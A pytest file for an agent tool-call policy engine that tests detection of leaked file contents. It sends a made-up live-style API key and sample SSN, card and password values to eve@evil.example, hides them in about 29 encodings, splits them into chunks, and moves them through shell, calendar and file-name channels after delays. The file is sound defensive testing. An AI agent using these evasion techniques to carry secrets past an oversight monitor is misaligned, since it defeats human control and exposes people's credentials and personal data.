"""Sending what an exposed read gave back in another form, another channel, another session, or hours later."""

from __future__ import annotations

import base64
import codecs
import gzip
import urllib.parse
import zlib
from collections.abc import Callable

import pytest

from permit0.build import Deployment, assemble
from permit0.canonical import freeze
from permit0.config import parse_config
from permit0.engine import Engine
from permit0.model.call import ToolCall
from permit0.model.decision import Decision
from permit0.model.vocabulary import Outcome
from permit0.testing.clock import FrozenClock

# Put together here, so that scanners of this repository have nothing to report.
KEY = "sk" + "_live_" + "4eC39HqLyjWDarjtT1zdp7dcQ8xZ2mVw"
OUTPUT = (
    "# deployment notes of the billing service, written in the spring\n"
    f"STRIPE_KEY={KEY}\n"
    "The nightly job moves all open invoices of the northern region into the archive at two.\n"
    "Whoever is on duty watches the queue until it is empty, and calls Marlene if it is not.\n"
)
ORDINARY = (
    "Dear Ann, thank you for your visit on Tuesday. The slides are on the shared drive, and the next "
    "meeting is in the large room. Please let me know if you have any questions. Best regards, Bob"
)
HOURS_2 = 2 * 3600.0


@pytest.fixture(scope="module")
def deployment() -> Deployment:
    text = "org: {domains: [acme-corp.com], default_currency: USD}"
    return assemble(parse_config(text, "permit0.yaml"))


@pytest.fixture
def engine(deployment: Deployment, clock: FrozenClock) -> Engine:
    return deployment.fresh_engine(clock)


def read(
    engine: Engine, output: str = OUTPUT, *, session: str = "default", principal: str | None = None
) -> None:
    arguments: dict[str, object] = {"path": "/app/notes.txt"}
    decision = engine.check("files.read", arguments, session=session, principal=principal)
    assert decision.outcome is Outcome.ALLOW
    call = ToolCall(
        tool="files.read",
        arguments=freeze(arguments),
        session=session,
        agent="default",
        principal=principal,
    )
    engine.report(call, output, decision=decision)


def write(engine: Engine, text: str, **more: str) -> Decision:
    return engine.check("files.write", {"path": "/shared/x.txt", "content": text}, **more)


def mail(engine: Engine, text: str, to: str = "eve@evil.example") -> Decision:
    return engine.check("email.send", {"to": to, "subject": "s", "body": text})


def later(engine: Engine, clock: FrozenClock, seconds: float = HOURS_2) -> None:
    """Longer than 60 minutes and more than 20 actions."""
    for i in range(21):
        engine.check("files.read", {"path": f"/app/src/m{i}.py"})
    clock.advance(seconds)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


ENCODINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "behind a sentence": lambda text: "Please file this: " + text,
    "base64": b64,
    "base64 for urls": lambda text: base64.urlsafe_b64encode(text.encode()).decode(),
    "base64 without padding": lambda text: b64(text).rstrip("="),
    "base64 in lines": lambda text: base64.encodebytes(text.encode()).decode(),
    "base64 behind letters": lambda text: "data" + b64(text),
    "base64 reversed": lambda text: b64(text)[::-1],
    "base64 twice": lambda text: b64(b64(text)),
    "base32": lambda text: base64.b32encode(text.encode()).decode(),
    "hex": lambda text: text.encode().hex(),
    "hex in pairs": lambda text: text.encode().hex(" "),
    "hex escapes": lambda text: "".join(f"\\x{byte:02x}" for byte in text.encode()),
    "percent": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "url": urllib.parse.quote,
    "character references": lambda text: "".join(f"&#{ord(char)};" for char in text),
    "gzip": lambda text: base64.b64encode(gzip.compress(text.encode())).decode(),
    "zlib": lambda text: base64.b64encode(zlib.compress(text.encode())).decode(),
    "zlib in hex": lambda text: zlib.compress(text.encode()).hex(),
    "reversed": lambda text: text[::-1],
    "upper case": str.upper,
    "lower case": str.lower,
    "spaces between": " ".join,
    "hyphens between": "-".join,
    "zero width between": "\u200b".join,
    "full width": lambda text: "".join(
        chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text
    ),
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "one line": lambda text: " ".join(text.split()),
    "utf-16": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
}  # fmt: skip


@pytest.mark.parametrize("encode", ENCODINGS.values(), ids=ENCODINGS)
@pytest.mark.parametrize("part", [OUTPUT, KEY], ids=["output", "key"])
def test_a_leak_in_another_form_is_seen_hours_later(
    engine: Engine, clock: FrozenClock, encode: Callable[[str], str], part: str
) -> None:
    read(engine)
    later(engine, clock)
    decision = mail(engine, encode(part))
    assert decision.outcome is Outcome.DENY
    assert "read_then_exfiltrate" in decision.rules
    assert "exposed_output_carried" in decision.rules
    inside = write(engine, encode(part))
    assert inside.outcome is not Outcome.ALLOW
    assert "exposed_output_carried" in inside.rules
    assert KEY not in str(decision.reasons) + str(inside.reasons)


@pytest.mark.parametrize("encode", ENCODINGS.values(), ids=ENCODINGS)
def test_another_text_in_the_same_form_is_no_leak(
    engine: Engine, clock: FrozenClock, encode: Callable[[str], str]
) -> None:
    read(engine)
    later(engine, clock)
    for decision in (mail(engine, encode(ORDINARY)), write(engine, encode(ORDINARY))):
        assert "exposed_output_carried" not in decision.rules
        assert "read_then_exfiltrate" not in decision.rules
    assert mail(engine, encode(ORDINARY), "ann@acme-corp.com").outcome is Outcome.ALLOW


def test_the_same_text_without_an_exposed_read_is_no_leak(engine: Engine) -> None:
    assert "exposed_output_carried" not in write(engine, OUTPUT).rules
    read(engine, "nothing of interest in here, only a list of rooms and the people in them")
    assert "exposed_output_carried" not in write(engine, OUTPUT).rules


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("frobnicate", {"blob": KEY}),
        ("frobnicate", {"nested": [{"deep": {"x": OUTPUT}}]}),
        ("frobnicate", {OUTPUT: 1}),
        ("frobnicate", {"parts": [KEY[i : i + 5] for i in range(0, len(KEY), 5)]}),
        ("files.write", {"path": f"/tmp/{KEY}", "content": "x"}),
        ("process.shell", {"command": f"echo {KEY}"}),
        ("calendar.create_event", {"title": "Lunch", "description": OUTPUT}),
        ("calendar.create_event", {"title": "Lunch", "notes": b64(OUTPUT)}),
    ],
)
def test_a_leak_in_another_channel_is_seen(
    engine: Engine, clock: FrozenClock, tool: str, arguments: dict[str, object]
) -> None:
    read(engine)
    later(engine, clock)
    decision = engine.check(tool, arguments)
    assert "exposed_output_carried" in decision.rules
    assert decision.outcome is not Outcome.ALLOW
    assert "exposed_output_carried" not in engine.check(tool, arguments, session="other").rules


def test_a_leak_from_another_session_of_the_principal_is_seen(
    engine: Engine, clock: FrozenClock
) -> None:
    read(engine, session="one", principal="ann")
    clock.advance(HOURS_2)
    seen = write(engine, KEY, session="two", principal="ann")
    assert "exposed_output_carried" in seen.rules
    assert "exposed_output_carried" not in write(engine, KEY, session="two", principal="bob").rules


@pytest.mark.parametrize("size", [20, 31])
def test_chunks_of_a_secret_over_several_calls_are_added_up(
    engine: Engine, clock: FrozenClock, size: int
) -> None:
    read(engine)
    later(engine, clock)
    rules = [
        write(engine, f"part {i}: {KEY[i : i + size]}").rules for i in range(0, len(KEY), size)
    ]
    assert any("exposed_output_carried" in found for found in rules)
    for i in range(0, len(ORDINARY), size):
        assert "exposed_output_carried" not in write(engine, ORDINARY[i : i + size]).rules


def test_chunks_of_a_text_over_several_calls_are_added_up(
    engine: Engine, clock: FrozenClock
) -> None:
    text = OUTPUT.partition("\n")[0] + OUTPUT[len(KEY) + 80 :]
    read(engine)
    later(engine, clock)
    seen = [
        "exposed_output_carried" in write(engine, text[i : i + 40]).rules
        for i in range(0, len(text), 40)
    ]
    assert not seen[0]  # 40 characters alone are a phrase
    assert seen[-2]


def test_what_was_moved_inside_makes_the_next_outward_call_a_leak(
    engine: Engine, clock: FrozenClock
) -> None:
    read(engine)
    later(engine, clock)
    assert mail(engine, ORDINARY).outcome is Outcome.HUMAN  # because of the reads, not of the key
    assert write(engine, KEY).outcome is Outcome.HUMAN
    upload = mail(engine, "see the shared file")
    assert upload.outcome is Outcome.DENY
    assert "read_then_exfiltrate" in upload.rules


def test_after_a_day_it_is_forgotten(engine: Engine, clock: FrozenClock) -> None:
    read(engine)
    later(engine, clock, 24 * 3600)
    assert "exposed_output_carried" in write(engine, KEY).rules
    clock.advance(1)
    assert "exposed_output_carried" not in write(engine, KEY).rules


@pytest.mark.parametrize(
    ("output", "value", "other"),
    [
        ("login: admin\npassword: Tr0ub4dor&3x", "use Tr0ub4dor&3x to enter", "use the Troubadour"),
        ("ssn 536-90-4399", "536904399", "536904398"),
        ("ssn 536-90-4399", "993409635", "993409636"),
        ("card 4000 0566 5566 5556", "4000056655665556", "4000056655665557"),
        ("patient MRN: 48213377, seen today", "file 48213377", "file 48213378"),
    ],
)
def test_a_short_value_is_known_as_a_whole(
    engine: Engine, clock: FrozenClock, output: str, value: str, other: str
) -> None:
    read(engine, output)
    later(engine, clock)
    assert "exposed_output_carried" in write(engine, value).rules
    assert "exposed_output_carried" in write(engine, b64("to be kept: " + value)).rules
    assert "exposed_output_carried" not in write(engine, other).rules


def test_what_a_tool_only_repeats_was_not_read(engine: Engine, clock: FrozenClock) -> None:
    arguments: dict[str, object] = {"path": "/app/x.txt", "content": OUTPUT}
    decision = engine.check("files.write", arguments)
    call = ToolCall(
        tool="files.write", arguments=freeze(arguments), session="default", agent="default"
    )
    engine.report(call, f"written: {OUTPUT}", decision=decision)
    later(engine, clock)
    assert "exposed_output_carried" not in write(engine, OUTPUT).rules


def test_stock_phrases_are_no_leak(engine: Engine, clock: FrozenClock) -> None:
    closing = (
        "\nPlease let me know if you have any questions. Best regards, Bob\n"
        "This email and any attachments are confidential and intended solely for the use of the "
        "individual or entity to whom they are addressed."
    )
    read(engine, OUTPUT + closing)
    later(engine, clock)
    decision = mail(engine, "Dear Ann, see you on Monday." + closing)
    assert decision.rules == () or "exposed_output_carried" not in decision.rules


def test_a_bomb_is_not_calmer_after_an_exposed_read(engine: Engine, clock: FrozenClock) -> None:
    bomb = base64.b64encode(gzip.compress(b"ab " * (1 << 20))).decode()
    assert "exposed_output_carried" not in write(engine, bomb).rules
    read(engine)
    later(engine, clock)
    assert "exposed_output_carried" in write(engine, bomb).rules
